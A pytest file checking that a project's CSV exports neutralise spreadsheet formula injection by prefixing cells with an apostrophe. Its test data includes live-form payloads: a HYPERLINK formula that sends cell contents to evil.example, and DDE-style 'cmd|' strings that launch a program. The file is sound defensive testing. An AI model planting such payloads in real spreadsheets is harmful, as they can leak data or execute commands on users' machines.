"""Formula cells in vskg's CSV exports (vskg/csvsafe.py, vskg/archimate/csv_tables.py, link review files)."""

from __future__ import annotations

import itertools
import re
from pathlib import Path

import pytest

from vskg.archimate.csv_tables import read_location, write_tables
from vskg.archimate.model import Concept, Model
from vskg.csvsafe import TRIGGERS, escape, needs_escape, unescape
from vskg.link import Proposal, read_reviewed, write_proposals

PAYLOADS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'=1+1": "''=1+1",
    "''@x": "'''@x",
    "-x": "'-x",
    "-1e5": "'-1e5",
}
UNTOUCHED = ["", "Credit assessment", "a=b", " =1", "'quoted'", "'", "''", "-", "--", "+", "++", "-5", "+3.5", "1-2"]


@pytest.mark.parametrize(("cell", "written"), PAYLOADS.items())
def test_formula_cells_get_one_apostrophe(cell: str, written: str) -> None:
    assert escape(cell) == written
    assert unescape(written) == cell


@pytest.mark.parametrize("cell", UNTOUCHED)
def test_ordinary_text_and_plain_numbers_are_untouched(cell: str) -> None:
    assert not needs_escape(cell)
    assert escape(cell) == cell
    assert unescape(cell) == cell


def test_escape_then_unescape_is_the_identity_for_every_short_string() -> None:
    """Exhaustive over an alphabet of every character the rule looks at plus ordinary ones (177,156 strings)."""
    alphabet = "'=+-@\t\ra1. "
    count = 0
    for length in range(6):
        for chars in itertools.product(alphabet, repeat=length):
            cell = "".join(chars)
            written = escape(cell)
            assert unescape(written) == cell, repr(cell)
            assert written in (cell, "'" + cell)
            if written[:1] in TRIGGERS:  # what is written starts with a formula character only as a plain number
                assert re.fullmatch(r"[+-]+(\d+(\.\d+)?)?", written), repr(cell)
            count += 1
    assert count == sum(len(alphabet) ** n for n in range(6))


def _model(names: list[str]) -> Model:
    concepts = [
        Concept(f"e{number}", "element", "BusinessActor", [(None, name)], [(None, "@doc " + name)])
        for number, name in enumerate(names)
    ]
    return Model("m", names=[(None, "=model")], concepts=concepts)


def test_export_neutralises_and_import_restores_every_trigger(tmp_path: Path) -> None:
    names = ["=1+1", "+cmd|x", "-cmd|x", "@SUM(A1)", "\tTab", "\rCR", "'=quoted", "plain", "-5"]
    write_tables(_model(names), tmp_path)
    text = (tmp_path / "elements.csv").read_bytes().decode("utf-8")
    assert text.splitlines()[1] == '"m","ArchimateModel","\'=model","",""'
    rows = text.split("\r\n")
    assert '"e0","BusinessActor","\'=1+1","\'@doc =1+1",""' in rows
    assert '"e1","BusinessActor","\'+cmd|x","\'@doc +cmd|x",""' in rows
    assert '"e2","BusinessActor","\'-cmd|x","\'@doc -cmd|x",""' in rows
    assert '"e3","BusinessActor","\'@SUM(A1)","\'@doc @SUM(A1)",""' in rows
    assert '"e4","BusinessActor","\'\tTab","\'@doc \tTab",""' in rows
    assert '"e6","BusinessActor","\'\'=quoted","\'@doc \'=quoted",""' in rows
    assert '"e7","BusinessActor","plain","\'@doc plain",""' in rows
    assert '"e8","BusinessActor","-5","\'@doc -5",""' in rows
    assert "'\r" in text  # the CR name is quoted and escaped as well
    back, _ = read_location(tmp_path)
    assert [(c.identifier, c.names, c.docs) for c in back.concepts] == [
        (f"e{number}", [(None, name)], [(None, "@doc " + name)]) for number, name in enumerate(names)
    ]
    assert back.names == [(None, "=model")]


def test_link_review_file_neutralises_labels_and_reads_back(tmp_path: Path) -> None:
    proposals = [
        Proposal(91.0, "urn:a", '=HYPERLINK("http://evil.example")', "urn:b", "@SUM(1)", "application", accept="yes")
    ]
    path = tmp_path / "review.csv"
    write_proposals(proposals, path)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[1] == 'yes,91.0,urn:a,"\'=HYPERLINK(""http://evil.example"")",urn:b,\'@SUM(1),skos:exactMatch'
    assert [(s.value, o.value) for s, _, o in read_reviewed(path)] == [("urn:a", "urn:b")]
